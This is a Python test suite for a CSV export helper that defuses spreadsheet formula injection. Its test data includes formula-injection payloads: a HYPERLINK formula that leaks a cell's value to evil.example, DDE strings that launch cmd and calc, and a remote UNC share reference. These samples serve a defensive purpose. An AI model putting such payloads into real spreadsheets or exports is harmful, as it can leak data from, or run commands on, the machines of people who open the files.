"""What strangers wrote, in a spreadsheet: no formula, and not one sign of it lost."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pamosnik import csv_cells
from pamosnik.csv_cells import as_meant, encoded, harmless, read

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"price")'
UNSEEN = " \t\r\n\"'\u200b\ufeff\xa0\u3000"
SIGNS = st.sampled_from([*"=+-@|%＝＋－＠｜％−﹦⁼ \t\r\n;,'\"\u200b\ufeff\xa0\u3000(!5ab"])
TEXTS = st.one_of(st.text(), st.text(SIGNS))


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "|calc",
        "%0A",
        "\thello",
        "\rhello",
        f"  {FORMULA}",
        f"\t{FORMULA}",
        f'"{FORMULA}',
        f"'{FORMULA}",
        f"\u200b\ufeff{FORMULA}",
        f"\u3000{FORMULA}",
        f"\n{FORMULA}",
        "＝1+1",
        "＋1",
        "－1+2",
        "＠SUM(1)",
        "-",
    ],
)
def test_a_text_that_looks_like_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert harmless(text)[0] == "'"
    assert as_meant(harmless(text)) == text


@pytest.mark.parametrize(
    "text", ["+48 600 100 200", "-5", "-5,50", "+1.5", "17841400000000001", "01ARZ3NDEK"]
)
def test_numbers_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    "text", ["", "hello", "a=b", "2-3", "shop@shop.example", "’tis 5 %", "'quoted'", "– yes", "[1]", "{a}"]
)
def test_what_is_no_formula_stays(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (f"hi;{FORMULA}", f"hi;'{FORMULA}"),
        (f"hi\n {FORMULA}", f"hi\n' {FORMULA}"),
        ("hi\r\n+cmd|x", "hi\r\n'+cmd|x"),
        ("x;='\\\\evil\\share\\b.xls'!n", "x;'='\\\\evil\\share\\b.xls'!n"),
        ("I need:\n- bread\n- milk", "I need:\n- bread\n- milk"),
        ("thanks; @anna too", "thanks; @anna too"),
    ],
)
def test_where_semicolons_part_cells_no_formula_begins_after_one(text: str, cell: str) -> None:
    assert harmless(text) == cell
    assert as_meant(cell) == text


@given(TEXTS)
@example("''=")
@example("'\t'=x(")
@example(";'=(;''=(")
def test_reading_gives_the_text_back(text: str) -> None:
    assert as_meant(harmless(text)) == text


@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=5))
def test_a_file_reads_as_it_was_written(rows: list[tuple[str, str]]) -> None:
    content = b"".join(encoded(("text", "more"), rows))
    assert list(read(content)) == [["text", "more"], *(list(row) for row in rows)]


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_no_cell_begins_with_a_sign_of_a_formula_whoever_parts_the_cells(texts: list[str]) -> None:
    content = b"".join(encoded(["text"] * len(texts), [texts])).decode("utf-8-sig")
    for separator in ",;":
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            for cell in row:
                text = cell.strip(UNSEEN)
                # A formula that a careless separator cut out of a text can call nothing; what comes after a comma is
                # the next cell, and a comma ends a formula where semicolons part cells.
                weak = separator != "," and not any(sign in text[1:].split(",")[0] for sign in "(|")
                marked = "'" in cell[: len(cell) - len(cell.lstrip(UNSEEN))]
                assert text[:1] not in tuple("=+-@|%") or marked or weak or _number(cell)


def _number(cell: str) -> bool:
    return all(sign in "+-0123456789 .," for sign in cell)


def test_a_file_is_what_excel_and_the_standard_expect() -> None:
    at = datetime(2026, 11, 30, 9, 0, tzinfo=UTC)
    rows: list[list[csv_cells.Cell]] = [
        ["Zażółć", -5, True, at],
        ['say "hi", 2x', None, False, 1.5],
    ]
    assert (
        b"".join(encoded(("name", "n", "yes", "at"), rows))
        == (
            "\ufeffname,n,yes,at\r\n"
            "Zażółć,-5,true,2026-11-30T09:00:00+00:00\r\n"
            '"say ""hi"", 2x",,false,1.5\r\n'
        ).encode()
    )


def test_half_a_surrogate_pair_ends_no_export() -> None:
    assert b"".join(encoded(("text",), [("a\ud83d",)])).endswith(b"a?\r\n")


def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="3 cells"):
        list(encoded(("a", "b"), [("1", "2", "3")]))


def test_a_long_text_takes_no_long_time() -> None:
    for text in (" " * 200_000 + "x", ";" * 200_000, "=" * 200_000, ";=" * 100_000):
        assert as_meant(harmless(text)) == text
    assert csv_cells.MEDIA_TYPE.startswith("text/csv")
